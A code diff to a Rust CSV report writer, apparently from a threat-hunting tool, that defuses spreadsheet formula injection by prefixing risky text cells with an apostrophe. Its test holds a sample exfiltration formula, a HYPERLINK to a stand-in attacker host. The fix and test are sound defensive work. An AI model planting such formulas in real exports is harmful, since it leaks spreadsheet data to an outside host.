@@ -2,7 +2,10 @@
 //! techniques`, then the union of every rule's result columns in order of first appearance
 //! (pack order), so the header is the same for the same pack and data. A finding leaves the
 //! columns its rule does not return empty. Tactics and techniques are joined with `;`. Cells
-//! are spelled and quoted as `quarry query --format csv` does (RFC 4180).
+//! are spelled and quoted as `quarry query --format csv` does (RFC 4180), except that a text
+//! cell a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, tab or carriage
+//! return: command lines and URLs are attacker-controlled) gets a leading `'`, as OWASP
+//! advises for CSV exports.
 
 use std::collections::HashMap;
 use std::io::{self, Write};
@@ -25,6 +28,9 @@ pub fn write(analysis: &Analysis<'_>, out: &mut dyn Write) -> io::Result<()> {
         for (field, column) in finding.batch.schema().fields().iter().zip(finding.batch.columns()) {
             if let Some(&i) = position.get(field.name().as_str()) {
                 cells[i] = to_display(column.as_ref(), finding.row);
+                if is_text(field.data_type()) && starts_like_a_formula(&cells[i]) {
+                    cells[i].insert(0, '\'');
+                }
             }
         }
         let tactics = rule.tactics.join(";");
@@ -41,6 +47,16 @@ pub fn write(analysis: &Analysis<'_>, out: &mut dyn Write) -> io::Result<()> {
     Ok(())
 }
 
+fn is_text(data_type: &arrow::datatypes::DataType) -> bool {
+    use arrow::datatypes::DataType;
+    matches!(data_type, DataType::Utf8 | DataType::Utf8View | DataType::LargeUtf8)
+}
+
+/// Whether a spreadsheet would read `text` as a formula.
+fn starts_like_a_formula(text: &str) -> bool {
+    text.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
 fn write_record<'a>(out: &mut dyn Write, fields: impl Iterator<Item = &'a str>) -> io::Result<()> {
     for (i, field) in fields.enumerate() {
         if i > 0 {
@@ -54,8 +70,31 @@ fn write_record<'a>(out: &mut dyn Write, fields: impl Iterator<Item = &'a str>) 
 
 #[cfg(test)]
 mod tests {
+    use std::sync::Arc;
+
+    use arrow::array::{ArrayRef, StringArray};
+
     use super::super::test_support::*;
     use super::super::*;
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_are_defused() {
+        let mut report = sample_report();
+        let evil = r#"=HYPERLINK("http://evil.example/"&A1)"#;
+        let files = batch(vec![
+            ("SHA256", Arc::new(StringArray::from(vec!["@SUM(1+1)", "a1b2"])) as ArrayRef),
+            ("FileName", Arc::new(StringArray::from(vec![evil, "-x.exe"])) as ArrayRef),
+            ("Count", Arc::new(arrow::array::Int64Array::from(vec![-1, 2])) as ArrayRef),
+        ]);
+        report.rules[3].batches = vec![files];
+        let mut out = Vec::new();
+        render(&report, HuntFormat::Csv, &mut out, &RenderOptions::default()).unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let files: Vec<&str> = text.lines().filter(|l| l.starts_with("rmm-anydesk-files")).collect();
+        assert_eq!(files.len(), 2, "{text}");
+        assert!(files[0].ends_with(r#",-1,,,,'@SUM(1+1),"'=HYPERLINK(""http://evil.example/""&A1)""#), "{}", files[0]);
+        assert!(files[1].ends_with(",2,,,,a1b2,'-x.exe"), "{}", files[1]);
+    }
 
     #[test]
     fn header_rows_and_quoting() {
